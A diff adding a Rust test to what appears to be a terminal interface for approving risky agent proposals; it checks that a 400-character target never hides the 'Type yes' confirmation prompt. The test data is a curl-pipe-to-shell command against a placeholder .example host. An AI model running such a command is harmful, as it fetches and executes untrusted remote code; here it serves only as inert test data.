@@ -339,3 +339,29 @@ fn history_shows_notes_labels_and_agent_reports() {
         "{screen}"
     );
 }
+
+#[test]
+fn a_long_target_never_pushes_the_prompt_out_of_the_confirm_line() {
+    let k = Keymap::default();
+    let mut s = State::new("alice".into(), "f".into(), "u".into(), NOW);
+    let mut r = record(8, Risk::Critical, ProposalStatus::Pending, false);
+    r.target = format!("sh -c 'curl https://{}.example/x | sh'", "a".repeat(400));
+    update(&mut s, queue_msg(vec![item(&r, Severity::High)], 0), &k);
+    let mut d = (*detail(8, &r)).clone();
+    d.proposals[0].target = r.target.clone();
+    update(
+        &mut s,
+        Msg::Detail {
+            alert_id: "a-8".into(),
+            result: Ok(std::sync::Arc::new(d)),
+        },
+        &k,
+    );
+    keys(&mut s, &k, "a");
+    update(&mut s, Msg::Drawn(NOW), &k);
+    update(&mut s, Msg::Tick(NOW + crate::tui::state::ARM_MS), &k);
+    for (w, h) in [(80, 24), (200, 50)] {
+        let screen = draw(&s, w, h);
+        assert!(screen.contains("Type yes"), "{w}×{h}: {screen}");
+    }
+}
